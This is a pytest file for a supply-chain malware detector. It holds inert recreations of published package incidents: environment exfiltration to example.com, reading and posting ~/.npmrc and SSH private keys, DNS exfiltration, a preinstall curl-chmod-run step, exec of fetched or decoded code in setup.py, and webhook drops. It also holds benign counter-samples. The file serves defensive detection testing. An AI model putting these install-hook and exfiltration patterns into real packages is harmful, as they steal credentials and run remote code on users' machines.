"""Signs of an attack in the code of packages: own, inert samples with the shape of published incidents."""

from __future__ import annotations

import base64
import textwrap
import zipfile
from io import BytesIO

import pytest

from casemate.analysis.supply.hostile.looking import hostile_bundles, hostile_code, package_of
from casemate.sources.tree import MemoryTree

# Each payload says what the real one did, and does nothing: the blobs decode to a comment.
BLOB = base64.b64encode(b"# " + b"nothing " * 12).decode()
HEX = (b"// " + b"nothing " * 12).hex()

SAMPLES = {
    # ctx 0.2.2 (2022): every new object sent the environment, encoded, as part of an address
    "ctx": (
        "site-packages/ctx.py",
        """
        import os, base64, requests

        class Ctx(dict):
            def __init__(self):
                self.send()

            def send(self):
                text = ""
                for name, value in os.environ.items():
                    text += name + "=" + value + " "
                code = base64.b64encode(text.encode())
                requests.get("https://example.com/hacked/" + str(code))
        """,
        "sends-environment",
    ),
    # event-stream / flatmap-stream 0.1.1 (2018): decrypts a data file with a name from the environment, compiles it
    "event-stream": (
        "node_modules/flatmap/index.min.js",
        """
        var r = require, t = process;
        function e(text) { return Buffer.from(text, "hex").toString() }
        var n = r("./test/data"), o = t.env.npm_package_description;
        if (o) {
          var crypto = require("crypto");
          var u = crypto.createDecipher("aes256", o), a = u.update(n[0], "hex", "utf8");
          a += u.final("utf8");
          var f = new module.constructor;
          f.paths = module.paths;
          f._compile(a, "");
        }
        """,
        "runs-decoded-code",
    ),
    # colors 1.4.1 (2022): its author let it print without end
    "colors": (
        "node_modules/colors/lib/index.js",
        """
        var colors = require('./colors');
        module.exports = colors;
        for (let i = 666; i < Infinity; i++) {
          console.log('testing testing testing');
        }
        """,
        "endless-import",
    ),
    # ua-parser-js 0.7.29 (2021): the preinstall script ran a shell file that fetched a miner from a bare address
    "ua-parser-js": (
        {
            "node_modules/ua/package.json": """
            {"name": "ua", "scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}}
            """,
            "node_modules/ua/preinstall.js": """
            const { exec } = require("child_process");
            function terminalLinux() { exec("/bin/bash preinstall.sh", (error) => {}); }
            if (process.platform == "linux") terminalLinux();
            """,
            "node_modules/ua/preinstall.sh": "curl http://198.51.100.7/download/tool -o tool\nchmod +x tool\n./tool &\n",
        },
        "",
        "fetches-and-runs",
    ),
    # torchtriton (2022): a binary of the package, started by the import
    "torchtriton": (
        "site-packages/triton/__init__.py",
        """
        import os, subprocess
        _folder = os.path.dirname(os.path.abspath(__file__))
        subprocess.Popen([os.path.join(_folder, "runtime", "triton")])
        """,
        "starts-own-binary",
    ),
    # rc 1.2.9, coa 2.0.3 (2021): a postinstall that starts an encoded command
    "coa": (
        "node_modules/coa/package.json",
        '{"scripts": {"postinstall": "powershell -nop -enc ' + BLOB + '"}}',
        "fetches-and-runs",
    ),
    # the common form of stealers on PyPI (W4SP and its copies): setup.py runs a decoded blob
    "setup-blob": (
        "vendor/req/setup.py",
        f"""
        from setuptools import setup
        import base64
        code = "{BLOB}"
        exec(base64.b64decode(code))
        setup(name="req")
        """,
        "runs-decoded-code",
    ),
    # colourama, pyg-utils (2021 on): an install command that asks a server for code
    "setup-fetch": (
        "vendor/colourfull/setup.py",
        """
        from setuptools import setup
        from setuptools.command.install import install
        import urllib.request

        class Custom(install):
            def run(self):
                exec(urllib.request.urlopen("https://example.com/stage2").read())
                install.run(self)

        setup(name="colourfull", cmdclass={"install": Custom})
        """,
        "runs-fetched-code",
    ),
    # eslint-scope 3.7.2 (2018): reads .npmrc and sends it
    "eslint-scope": (
        "node_modules/scope/lib/build.js",
        """
        const https = require('https'), fs = require('fs'), path = require('path'), os = require('os');
        const content = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
        const request = https.get('https://example.com/c?' + encodeURIComponent(content));
        """,
        "sends-private-file",
    ),
    # the "dependency confusion" probes that went too far: environment by DNS
    "dns-probe": (
        "node_modules/internal/index.js",
        """
        const dns = require('dns');
        const data = Buffer.from(JSON.stringify(process.env)).toString('hex');
        dns.lookup(data.slice(0, 60) + '.collect.example.com', () => {});
        """,
        "sends-environment",
    ),
    # node-ipc's and many webhooks' shape: an unasked call of a drop at import
    "webhook": (
        "site-packages/fancycolor/__init__.py",
        """
        import socket, requests
        requests.post("https://discord.com/api/web" + "hooks/1/x", json={"host": socket.gethostname()})
        requests.post("https://" + "webhook.site/abc", json={"host": socket.gethostname()})
        """,
        "calls-drop",
    ),
    # discord.dll and kin: characters as numbers, evaluated
    "char-codes": (
        "node_modules/dll/index.js",
        "eval(String.fromCharCode(" + ",".join(str(code) for code in b"// nothing at all here, move on") + "))\n",
        "runs-decoded-code",
    ),
    # crossenv (2017): the install script posts the environment
    "crossenv": (
        {
            "node_modules/crossenv/package.json": '{"scripts": {"postinstall": "node package-setup.js"}}',
            "node_modules/crossenv/package-setup.js": """
            const http = require('http');
            const env = JSON.stringify(process.env);
            const data = Buffer.from(env).toString('base64');
            const request = http.request({hostname: 'example.com', method: 'POST'});
            request.write(data);
            request.end();
            """,
        },
        "",
        "sends-environment",
    ),
    # ssh-decorate (2018): sends keys
    "ssh-decorate": (
        "site-packages/ssh_decorate/core.py",
        """
        import os, requests

        def connect(host):
            key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
            requests.post("https://example.com/keys", data={"key": key})
        """,
        "sends-private-file",
    ),
    # marshalled payloads of 2022 and later
    "marshal": (
        "site-packages/pyfast/__init__.py",
        f"""
        import marshal, zlib, base64
        exec(marshal.loads(zlib.decompress(base64.b64decode(b"{BLOB}"))))
        """,
        "runs-decoded-code",
    ),
    # atob and Function, as in the wallets' attacks of 2023 and later
    "function-atob": (
        "node_modules/kit/dist/index.cjs",
        f"const run = new Function(Buffer.from('{HEX}', 'hex').toString());\nrun();\n",
        "runs-decoded-code",
    ),
}

BENIGN = {
    "an own downloader of a known tool": (
        {
            "node_modules/bundler/package.json": '{"scripts": {"postinstall": "node install.js"}}',
            "node_modules/bundler/install.js": """
            const https = require('https'), child_process = require('child_process'), path = require('path');
            https.get('https://registry.example.com/bundler.tgz', (response) => response.resume());
            child_process.execFileSync(path.join(__dirname, 'bin', 'bundler'), ['--version']);
            """,
        }
    ),
    "an environment for a child": (
        {
            "site-packages/tool/run.py": """
            import os, subprocess, requests
            def run(command):
                requests.get("https://example.com/" + os.environ.get("TOOL_CHANNEL", "stable"))
                return subprocess.run(command, env=dict(os.environ), check=True)
            """
        }
    ),
    "code that is generated and run": (
        {
            "site-packages/namedtuples.py": """
            import base64
            def make(fields):
                namespace = {}
                exec("def f({}): pass".format(", ".join(fields)), namespace)
                return namespace["f"]
            ICON = base64.b64decode("BLOB")
            """.replace("BLOB", BLOB)
        }
    ),
    "a server that loops": (
        {
            "node_modules/worker/index.js": """
            async function work(queue) { while (true) { await queue.next() } }
            module.exports = work
            """
        }
    ),
    "credentials that are read and used": (
        {
            "site-packages/sdk/credentials.py": """
            import configparser, os
            def load():
                parser = configparser.ConfigParser()
                parser.read(os.path.expanduser("~/.aws/credentials"))
                return parser
            """
        }
    ),
    "a local address": (
        {
            "site-packages/sdk/probe.py": """
            import requests
            requests.get("http://127.0.0.1:9001/2018-06-01/ping")
            """
        }
    ),
}


def _tree(files: dict[str, str]) -> MemoryTree:
    return MemoryTree({path: textwrap.dedent(text).lstrip().encode() for path, text in files.items()})


@pytest.mark.parametrize("name", SAMPLES)
def test_the_shape_of_an_incident_is_seen(name: str) -> None:
    where, text, kind = SAMPLES[name]
    files = where if isinstance(where, dict) else {str(where): text}
    found = list(hostile_code(_tree(files)))
    assert kind in {one.kind for one in found}


@pytest.mark.parametrize("name", BENIGN)
def test_what_libraries_do_is_no_sign(name: str) -> None:
    assert list(hostile_code(_tree(BENIGN[name]))) == []


def test_packed_bundles_are_looked_into_and_broken_ones_do_not_raise() -> None:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("ctx.py", textwrap.dedent(str(SAMPLES["ctx"][1])))
        archive.writestr("../up.py", "x = 1")
        archive.writestr("app.py", "def handler(event, context):\n    return 1\n")
    tree = MemoryTree({"a.zip": packed.getvalue(), "b.zip": b"PK\3\4broken", "c.zip": packed.getvalue()[:-30]})
    found = list(hostile_bundles(tree, ["a.zip", "b.zip", "c.zip", "none.zip"]))
    assert [(one.kind, one.at.path, one.package) for one in found] == [("sends-environment", "a.zip", "a.zip!ctx.py")]
    assert "(ctx.py:" in found[0].words


def test_only_packages_are_looked_at() -> None:
    assert list(hostile_code(_tree({"src/ctx.py": SAMPLES["ctx"][1]}))) == []


def test_a_file_knows_its_package() -> None:
    assert package_of("a/node_modules/b/node_modules/@c/d/lib/x.js") == "a/node_modules/b/node_modules/@c/d"
    assert package_of("lib/site-packages/e/f.py") == "lib/site-packages/e"
    assert package_of("x/y.py") == "x"
